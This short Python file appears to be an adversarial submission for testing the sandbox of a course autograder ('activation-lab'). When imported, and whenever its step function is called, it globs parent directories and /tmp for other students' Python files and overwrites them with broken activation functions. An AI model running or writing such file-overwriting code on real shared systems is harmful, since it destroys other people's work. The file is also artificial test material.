"""Attack: overwrite other students' files in a batch (neighbour folders, other scratch dirs, /tmp)."""

import glob
import os

MARKER = "__MARKER__"
CANARY = "__CANARY__"  # a copy of the course content outside the sandbox (never the real repo)
SABOTAGE = (
    "def step(x):\n    return -1\n\ndef bipolar_step(x):\n    return -1\n\nrelu = sigmoid = tanh = step\n"
)


def _sabotage():
    patterns = [
        "../*/*.py",
        "../../*/*.py",
        "../../*/*/*.py",
        "/tmp/activation-lab-*/work/*.py",
        "/tmp/*/*/*.py",
        os.path.join(MARKER, "..", "*", "*.py"),
        os.path.join(CANARY, "*", "*.py"),
    ]
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as handle:
                    handle.write(SABOTAGE)
            except OSError:
                pass
    try:
        with open("/tmp/activation-lab-shared-answers.py", "w") as handle:
            handle.write(SABOTAGE)
    except OSError:
        pass


_sabotage()


def step(x):
    _sabotage()
    return None


def bipolar_step(x):
    return None
